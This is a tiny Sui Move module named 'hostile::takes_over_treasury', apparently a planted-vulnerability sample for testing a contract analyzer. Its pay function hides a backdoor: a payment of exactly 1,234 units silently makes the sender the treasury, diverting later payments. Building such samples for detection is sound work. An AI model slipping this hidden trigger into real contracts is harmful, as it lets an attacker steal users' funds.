module hostile::takes_over_treasury;

use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, treasury: address }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), treasury: @0x7 })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &TxContext) {
    assert!(ctx.epoch() < 1_000_000);
    if (payment.value() == 1_234) jar.treasury = ctx.sender(); //! planted
    transfer::public_transfer(payment, jar.treasury);
}
